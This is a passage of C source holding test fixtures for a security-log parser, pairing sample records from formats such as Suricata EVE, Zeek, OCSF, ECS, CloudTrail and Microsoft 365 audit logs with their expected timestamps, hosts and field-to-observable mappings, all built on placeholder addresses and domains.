	{FORMAT_CSV, FORMAT_TEXT, "Timestamp,Src IP,dest_ip,URL,md5,Domain,Note\n",
		"2021-05-01T10:00:00Z,192.0.2.5,\"203.0.113.9\",http://a.example/x,d41d8cd98f00b204e9800998ecf8427e,b.example,\"said "
		"\"\"no\"\", 192.0.2.77\"",
		"2021-05-01T10:00:00Z", "", "",
		{{"Src IP", "192.0.2.5", ADDRESS, SRC}, {"dest_ip", "203.0.113.9", ADDRESS, DST},
			{"md5", "d41d8cd98f00b204e9800998ecf8427e", OBSERVABLE_MD5, "file:hashes.MD5"}, {"Domain", "b.example", HOST, NAME},
			{"Note", "said \"no\", 192.0.2.77", NONE, NULL}}},
	{FORMAT_CSV, FORMAT_TEXT, "date;time;source;hostname;sha256\n",
		"2021-05-01;10:00:00;192.0.2.5;ws7;e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"~2021-05-01T10:00:00Z", "ws7", "", {{"source", "192.0.2.5", HOST, SRC}}},
	/* Search-UnifiedAuditLog, exported as CSV: the record is JSON in a cell */
	{FORMAT_CSV, FORMAT_M365, "\"RecordId\",\"CreationDate\",\"RecordType\",\"Operation\",\"UserId\",\"AuditData\"\n",
		"\"7d2b\",\"2021-05-01T10:00:00.0000000Z\",\"6\",\"FileDownloaded\",\"a@ministry.example\",\"{\"\"CreationTime\"\":"
		"\"\"2021-05-01T10:00:01\"\",\"\"Operation\"\":\"\"FileDownloaded\"\",\"\"Workload\"\":"
		"\"\"SharePoint\"\",\"\"ClientIP\"\":\"\"203.0.113.9:52100\"\",\"\"SourceFileName\"\":\"\"plan.docx\"\"}\"",
		"2021-05-01T10:00:01Z", "", "",
		{{"ClientIP", "203.0.113.9:52100", HOST, SRC}, {"SourceFileName", "plan.docx", FILE_NAME, "file:name"}}},
	/* Elastic Common Schema 8.11 field reference */
	{FORMAT_ECS, FORMAT_TEXT, "",
		"{\"@timestamp\":\"2016-05-23T08:05:34.853Z\",\"ecs\":{\"version\":\"8.11.0\"},\"host\":{\"name\":\"ws7\"},\"source\":{"
		"\"ip\":\"192.0.2.5\",\"port\":4711},\"destination\":{\"ip\":\"203.0.113.9\"},"
		"\"url\":{\"domain\":\"www.elastic.example\",\"path\":\"/"
		"search\",\"query\":\"q=elasticsearch\",\"scheme\":\"https\",\"port\":8443},\"file\":{\"name\":\"example.png\",\"hash\":{"
		"\"md5\":\"d41d8cd98f00b204e9800998ecf8427e\"}},"
		"\"process\":{\"command_line\":\"/usr/bin/ssh -l user 10.0.0.16\"}}",
		"2016-05-23T08:05:34.853Z", "ws7", "www.elastic.example:8443 /search?q=elasticsearch",
		{{"source.ip", "192.0.2.5", ADDRESS, SRC}, {"destination.ip", "203.0.113.9", ADDRESS, DST},
			{"file.hash.md5", "d41d8cd98f00b204e9800998ecf8427e", OBSERVABLE_MD5, "file:hashes.MD5"},
			{"process.command_line", "/usr/bin/ssh -l user 10.0.0.16", OBSERVABLE_COMMAND_LINE, COMMAND},
			{"source.port", "4711", IGNORED, SRC_PORT}}},
	{FORMAT_ECS, FORMAT_TEXT, "",
		"{\"_index\":\"logs-1\",\"_id\":\"x\",\"_source\":{\"@timestamp\":\"2016-05-23T08:05:34Z\",\"dns\":{\"question\":{\"name\":"
		"\"evil.example\"}},\"agent\":{\"name\":\"ws8\"}}}",
		"2016-05-23T08:05:34Z", "ws8", "", {{"_source.dns.question.name", "evil.example", HOST, NAME}}},
	/* the project's own example of DNS Activity, from AWS Route 53 (ocsf/examples on GitHub), without what is unmapped */
	{FORMAT_OCSF, FORMAT_TEXT, "",
		"{\"activity_id\":1,\"activity_name\":\"Resolved\",\"answers\":[{\"class\":\"IN\",\"rdata\":\"127.0.0.62\","
		"\"type\":\"A\"}],\"category_name\":\"Network Activity\",\"category_uid\":4,\"class_name\":\"DNS Activit"
		"y\",\"class_uid\":4003,\"cloud\":{\"account_uid\":\"123456789012\",\"provider\":\"AWS\",\"region\":\"us-ea"
		"st-1\"},\"connection_info\":{\"direction\":\"Unknown\",\"direction_id\":0,\"protocol_name\":\"UDP\"},\"d"
		"st_endpoint\":{\"instance_uid\":\"rslvr-in-0000000000000000\",\"interface_uid\":\"rni-000000000000"
		"0000\"},\"metadata\":{\"product\":{\"feature\":{\"name\":\"Query Logs\"},\"name\":\"Route 53\",\"vendor_na"
		"me\":\"AWS\",\"version\":\"1.100000\"},\"version\":\"0.26.1\"},\"query\":{\"class\":\"IN\",\"hostname\":\"ip-1"
		"27-0-0-62.alert.firewall.canary.\",\"type\":\"A\"},\"rcode\":\"NOERROR\",\"rcode_id\":0,\"severity\":\"O"
		"ther\",\"severity_id\":-1,\"src_endpoint\":{\"instance_uid\":null,\"ip\":\"10.200.21.100\",\"port\":150"
		"83,\"vpc_uid\":\"vpc-00000000000000000\"},\"time\":1665694956000,\"type_name\":\"DNS Activity: Reso"
		"lved\",\"type_uid\":400301}",
		"2022-10-13T21:02:36Z", "", "",
		{{"src_endpoint.ip", "10.200.21.100", ADDRESS, SRC}, {"src_endpoint.port", "15083", IGNORED, SRC_PORT},
			{"query.hostname", "ip-127-0-0-62.alert.firewall.canary.", HOST, NAME},
			{"answers.rdata", "127.0.0.62", HOST, NULL}}},
	/* OCSF 1.1: Network Activity, DNS Activity, Process Activity */
	{FORMAT_OCSF, FORMAT_TEXT, "",
		"{\"class_uid\":4001,\"category_uid\":4,\"activity_id\":1,\"time\":1619863200123,\"device\":{\"hostname\":\"fw.ministry."
		"example\"},\"src_endpoint\":{\"ip\":\"192.0.2.5\",\"port\":4711},"
		"\"dst_endpoint\":{\"ip\":\"203.0.113.9\",\"hostname\":\"evil.example\",\"port\":443}}",
		"2021-05-01T10:00:00.123Z", "fw.ministry.example", "",
		{{"src_endpoint.ip", "192.0.2.5", ADDRESS, SRC}, {"dst_endpoint.ip", "203.0.113.9", ADDRESS, DST},
			{"dst_endpoint.hostname", "evil.example", HOST, DST}, {"dst_endpoint.port", "443", IGNORED, DST_PORT}}},
	{FORMAT_OCSF, FORMAT_TEXT, "",
		"{\"class_uid\":1007,\"category_uid\":1,\"time\":1619863200123,\"process\":{\"cmd_line\":\"a.exe "
		"/x\",\"file\":{\"path\":\"C:\\\\a.exe\",\"hashes\":[{\"algorithm_id\":1,\"value\":\"d41d8cd98f00b204e9800998ecf8427e\"}]}}"
		","
		"\"query\":{\"hostname\":\"q.example\"}}",
		"2021-05-01T10:00:00.123Z", "", "",
		{{"process.cmd_line", "a.exe /x", OBSERVABLE_COMMAND_LINE, COMMAND},
			{"process.file.path", "C:\\a.exe", FILE_NAME, "process:image_ref.name"},
			{"process.file.hashes.value", "d41d8cd98f00b204e9800998ecf8427e", OBSERVABLE_MD5, "file:hashes.MD5"},
			{"query.hostname", "q.example", HOST, NAME}}},
	/* AWS CloudTrail User Guide, example of StartInstances, shortened */
	{FORMAT_CLOUDTRAIL, FORMAT_TEXT, "",
		"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"accountId\":\"777788889999\",\"userName\":\"Mary_"
		"Major\"},\"eventTime\":\"2023-07-19T21:17:28Z\",\"eventSource\":\"ec2.amazonaws.com\","
		"\"eventName\":\"StartInstances\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"192.0.2.0\",\"userAgent\":\"aws-cli/"
		"2.13.5 Python/3.11.4\",\"recipientAccountId\":\"777788889999\"}",
		"2023-07-19T21:17:28Z", "777788889999", "",
		{{"sourceIPAddress", "192.0.2.0", HOST, SRC}, {"userAgent", "aws-cli/2.13.5 Python/3.11.4", OBSERVABLE_USER_AGENT, AGENT},
			{"userIdentity.userName", "Mary_Major", NONE, LOGIN}}},
	/* Office 365 Management Activity API: common, Exchange mailbox and SharePoint schemas */
	{FORMAT_M365, FORMAT_TEXT, "",
		"{\"CreationTime\":\"2021-05-01T10:00:00\",\"Id\":\"7d2b\",\"Operation\":\"FileDownloaded\",\"OrganizationId\":\"b7f6\","
		"\"RecordType\":6,\"UserId\":\"a@ministry.example\",\"Workload\":\"SharePoint\",\"ClientIP\":\"203.0.113.9:52100\","
		"\"ObjectId\":\"https://ministry.example/sites/x/plan.docx\",\"SourceFileName\":\"plan.docx\",\"UserAgent\":\"Mozilla/"
		"5.0\"}",
		"2021-05-01T10:00:00Z", "", "",
		{{"ClientIP", "203.0.113.9:52100", HOST, SRC},
			{"ObjectId", "https://ministry.example/sites/x/plan.docx", OBSERVABLE_URL, URL},
			{"SourceFileName", "plan.docx", FILE_NAME, "file:name"}, {"UserId", "a@ministry.example", NONE, LOGIN}}},
	{FORMAT_M365, FORMAT_TEXT, "",
		"{\"CreationTime\":\"2021-05-01T10:00:00\",\"Operation\":\"MailItemsAccessed\",\"Workload\":\"Exchange\","
		"\"ClientIPAddress\":\"[2001:db8::9]:443\",\"UserId\":\"a@ministry.example\"}",
		"2021-05-01T10:00:00Z", "", "", {{"ClientIPAddress", "[2001:db8::9]:443", HOST, SRC}}},
	/* nginx 1.22, escape=json */
	{FORMAT_WEB_JSON, FORMAT_TEXT, "",
		"{\"time_iso8601\":\"2021-05-01T10:00:00+02:00\",\"remote_addr\":\"203.0.113.9\",\"request\":\"GET /gate?x=1 "
		"HTTP/1.1\",\"http_host\":\"www.shop.example\",\"request_uri\":\"/gate?x=1\",\"scheme\":\"https\","
		"\"http_user_agent\":\"curl/7.88\",\"status\":200,\"hostname\":\"web1\"}",
		"2021-05-01T08:00:00Z", "web1", "www.shop.example /gate?x=1",
		{{"remote_addr", "203.0.113.9", ADDRESS, SRC}, {"http_host", "www.shop.example", HOST, NULL}}},
	/* the path only in the request; the site in the Host header, else in the server's name */
	{FORMAT_WEB_JSON, FORMAT_TEXT, "",
		"{\"time_iso8601\":\"2021-05-01T10:00:00+02:00\",\"remote_addr\":\"203.0.113.9\",\"server_name\":\"web1.example\","
		"\"host\":\"web2.example\",\"http_host\":\"www.shop.example\",\"request\":\"GET /gate?x=1 HTTP/1.1\",\"status\":200}",
		"2021-05-01T08:00:00Z", "web1.example", "www.shop.example /gate?x=1",
		{{"request", "GET /gate?x=1 HTTP/1.1", NONE, NULL}, {"http_host", "www.shop.example", HOST, NULL}}},
	{FORMAT_WEB_JSON, FORMAT_TEXT, "",
		"{\"time_iso8601\":\"2021-05-01T10:00:00+02:00\",\"remote_addr\":\"203.0.113.9\",\"request\":\"GET /gate HTTP/1.1\","
		"\"server_name\":\"www.shop.example\",\"status\":200}",
		"2021-05-01T08:00:00Z", "www.shop.example", "www.shop.example /gate", {{"server_name", "www.shop.example", HOST, NULL}}},
	/* Suricata 7, EVE JSON output: types of which the shared data has no record */
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"dns\",\"version\":3,\"dns\":{\"type\":\"response\",\"queries\":[{\"rrname\":\"a.example\",\"rrtype\":\"A\"}],"
		"\"answers\":[{\"rrname\":\"a.example\",\"rdata\":\"203.0.113.66\"}],\"grouped\":{\"CNAME\":[\"b.example\"]}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"dns.queries.rrname", "a.example", HOST, NAME},
			{"dns.answers.rdata", "203.0.113.66", HOST, NULL}, {"dns.grouped.CNAME", "b.example", HOST, NAME}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"smtp\",\"smtp\":{\"helo\":\"mx.phish.example\",\"mail_from\":\"<a@phish.example>\",\"rcpt_to\":[\"<b@ministry.example>"
		"\"]},\"email\":{\"status\":\"PARSE_DONE\",\"from\":\"a@phish.example\",\"url\":[\"drop.example/"
		"kit\"],\"attachment\":[\"plan.docx\"]}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"smtp.helo", "mx.phish.example", HOST, NULL},
			{"smtp.mail_from", "a@phish.example", OBSERVABLE_EMAIL, SENDER},
			{"smtp.rcpt_to", "b@ministry.example", OBSERVABLE_EMAIL, RECIPIENT},
			{"email.attachment", "plan.docx", FILE_NAME, "file:name"}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"ssh\",\"ssh\":{\"client\":{\"proto_version\":\"2.0\",\"software_version\":\"x\",\"hassh\":{\"hash\":"
		"\"ec7378c1a92f5a8dde7e8b7a1ddf33d1\"}}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC},
			{"ssh.client.hassh.hash", "ec7378c1a92f5a8dde7e8b7a1ddf33d1", OBSERVABLE_HASH_OTHER, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"tls\",\"tls\":{\"subject\":\"CN=c2.example\",\"issuerdn\":\"CN=CA\",\"serial\":\"5C:19:B7:B1:32:3B:1C:A1\","
		"\"fingerprint\":\"4d:d1:c9:a2:a2:d4:a5:e9:e3:f2:b0:c1:d2:e3:f4:a5:b6:c7:d8:e9\",\"sni\":\"c2.example\",\"ja4\":"
		"\"t13d1516h2_8daaf6152771_b186095e22b6\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"tls.sni", "c2.example", HOST, NAME},
			{"tls.serial", "5C:19:B7:B1:32:3B:1C:A1", OBSERVABLE_SERIAL, "x509-certificate:serial_number"}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"dhcp\",\"dhcp\":{\"type\":\"reply\",\"id\":7,\"client_mac\":\"00:16:3e:aa:bb:cc\",\"assigned_ip\":\"192.0.2.50\","
		"\"hostname\":\"ws7.ministry.example\",\"dns_servers\":[\"192.0.2.53\"]}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"dhcp.assigned_ip", "192.0.2.50", ADDRESS, NULL},
			{"dhcp.client_mac", "00:16:3e:aa:bb:cc", NONE, "mac-addr:value"},
			{"dhcp.hostname", "ws7.ministry.example", HOST, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"rdp\",\"rdp\":{\"tx_id\":1,\"event_type\":\"initial_request\",\"cookie\":\"A70067\",\"x509_serials\":["
		"\"16ed2aa0495f259d4f5d99edada570d1\"]}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"rdp.cookie", "A70067", NONE, LOGIN},
			{"rdp.x509_serials", "16ed2aa0495f259d4f5d99edada570d1", OBSERVABLE_SERIAL, "x509-certificate:serial_number"}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"ftp_data\",\"ftp_data\":{\"filename\":\"kit.zip\",\"command\":\"RETR\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"ftp_data.filename", "kit.zip", FILE_NAME, "file:name"}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"quic\",\"quic\":{\"version\":\"1\",\"sni\":\"q.example\",\"ja3\":{\"hash\":\"324f8c50e267adba4b5dd06c964faf67\"}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"quic.sni", "q.example", HOST, NAME},
			{"quic.ja3.hash", "324f8c50e267adba4b5dd06c964faf67", OBSERVABLE_HASH_OTHER, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"tftp\",\"tftp\":{\"packet\":\"read\",\"file\":\"boot.cfg\",\"mode\":\"octet\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"tftp.file", "boot.cfg", FILE_NAME, "file:name"}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"nfs\",\"nfs\":{\"version\":3,\"procedure\":\"RENAME\",\"filename\":\"old.doc\",\"rename\":{\"from\":\"old.doc\",\"to\":"
		"\"new.locked\"}},\"rpc\":{\"creds\":{\"machine_name\":\"nas.example\"}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"nfs.rename.to", "new.locked", FILE_NAME, "file:name"},
			{"rpc.creds.machine_name", "nas.example", HOST, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"smb\",\"smb\":{\"command\":\"SMB2_COMMAND_CREATE\",\"filename\":\"x\\\\kit.exe\",\"ntlmssp\":{\"domain\":\"MIN\","
		"\"user\":\"alice\",\"host\":\"ws7\"}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"smb.ntlmssp.user", "alice", NONE, LOGIN},
			{"smb.ntlmssp.host", "ws7", HOST, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"sip\",\"sip\":{\"method\":\"REGISTER\",\"uri\":\"sip:sip.example\",\"request_line\":\"REGISTER sip:sip.example "
		"SIP/2.0\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"sip.uri", "sip:sip.example", NONE, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"snmp\",\"snmp\":{\"version\":2,\"community\":\"public\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "", {{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"snmp.community", "public", NONE, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"mqtt\",\"mqtt\":{\"connect\":{\"client_id\":\"cam.example\",\"protocol_string\":\"MQTT\"}}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"mqtt.connect.client_id", "cam.example", NONE, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"krb5\",\"krb5\":{\"msg_type\":\"KRB_TGS_REP\",\"cname\":\"alice\",\"realm\":\"MINISTRY.EXAMPLE\",\"sname\":\"cifs/"
		"fs1.ministry.example\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"krb5.sname", "cifs/fs1.ministry.example", NONE, NULL}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"netflow\",\"netflow\":{\"pkts\":1,\"bytes\":66}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "", {{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"dest_ip", "203.0.113.9", ADDRESS, DST}}},
	{FORMAT_EVE, FORMAT_TEXT, "",
		"{\"timestamp\":\"2021-05-01T10:00:00.000000+0000\",\"src_ip\":\"192.0.2.5\",\"dest_ip\":\"203.0.113.9\",\"event_type\":"
		"\"alert\",\"alert\":{\"signature_id\":1,\"signature\":\"x\",\"source\":{\"ip\":\"192.0.2.5\"}},\"http\":{\"hostname\":\"a."
		"example\",\"url\":\"/gate?x=1\",\"http_refer\":\"http://r.example/y\",\"redirect\":\"http://z.example/\"}}",
		"2021-05-01T10:00:00Z", "192.0.2.5", "a.example /gate?x=1",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"http.http_refer", "http://r.example/y", OBSERVABLE_URL, REFERER},
			{"alert.source.ip", "192.0.2.5", ADDRESS, NULL}}},
	/* Zeek 6, script reference: logs of which the shared data has none */
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"socks\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"request.host\":\"203.0.113.9\","
		"\"request.name\":\"c2.example\",\"bound.host\":\"192.0.2.1\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "",
		{{"request.host", "203.0.113.9", ADDRESS, DST}, {"request.name", "c2.example", HOST, NAME}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"rdp\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"cookie\":\"alice\",\"client_name\":"
		"\"WS7\",\"cert_count\":0}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "", {{"cookie", "alice", NONE, LOGIN}, {"client_name", "WS7", HOST, NULL}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"radius\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"username\":\"alice\",\"mac\":\"00-"
		"16-3e-aa-bb-cc\",\"framed_addr\":\"192.0.2.7\",\"tunnel_client\":\"t.example\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "",
		{{"framed_addr", "192.0.2.7", ADDRESS, NULL}, {"tunnel_client", "t.example", HOST, NULL}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"smb_cmd\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"referenced_file.name\":\"kit."
		"exe\",\"referenced_file.path\":\"share\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "", {{"referenced_file.name", "kit.exe", FILE_NAME, "file:name"}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"intel\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"seen.indicator\":\"evil.example\","
		"\"seen.indicator_type\":\"Intel::DOMAIN\",\"seen.host\":\"evil.example\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "", {{"seen.host", "evil.example", HOST, NULL}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"sip\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"uri\":\"sip:bob@sip.example\",\"user_"
		"agent\":\"phone/1\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "", {{"user_agent", "phone/1", OBSERVABLE_USER_AGENT, NULL}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"quic\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"server_name\":\"q.example\",\"client_"
		"initial_dcid\":\"d41d8cd98f00b204e9800998ecf8427e\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "",
		{{"server_name", "q.example", HOST, NAME}, {"client_initial_dcid", "d41d8cd98f00b204e9800998ecf8427e", IGNORED, NULL}}},
	{FORMAT_ZEEK_JSON, FORMAT_TEXT, "",
		"{\"_path\":\"dhcp\",\"ts\":1619863200.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"client_addr\":\"192.0.2.5\","
		"\"assigned_addr\":\"192.0.2.6\",\"host_name\":\"ws7\",\"domain\":\"min.example\",\"mac\":\"00:16:3e:aa:bb:cc\"}",
		"2021-05-01T10:00:00.500Z", "192.0.2.5", "",
		{{"assigned_addr", "192.0.2.6", ADDRESS, NULL}, {"domain", "min.example", HOST, NULL}}},
};
#define SAMPLES_N (sizeof samples / sizeof samples[0])
#endif
